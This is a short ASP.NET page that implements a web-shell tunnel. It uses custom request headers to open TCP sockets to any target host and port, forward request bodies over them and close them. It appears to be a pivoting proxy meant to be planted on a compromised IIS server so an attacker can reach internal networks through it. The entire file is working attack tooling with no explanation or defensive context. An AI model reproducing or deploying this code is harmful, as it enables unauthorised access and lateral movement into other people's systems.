<%@ Page Language="C#" EnableSessionState="True" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
  string cmd = Request.Headers.Get("X-CMD");
  if (cmd == "CONNECT") {
    var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
    s.Connect(Request.Headers.Get("X-TARGET"), int.Parse(Request.Headers.Get("X-PORT")));
    Session["s"] = s;
  } else if (cmd == "FORWARD") {
    ((Socket)Session["s"]).Send(Request.BinaryRead(Request.ContentLength));
  } else if (cmd == "DISCONNECT") {
    ((Socket)Session["s"]).Close();
  }
}
</script>
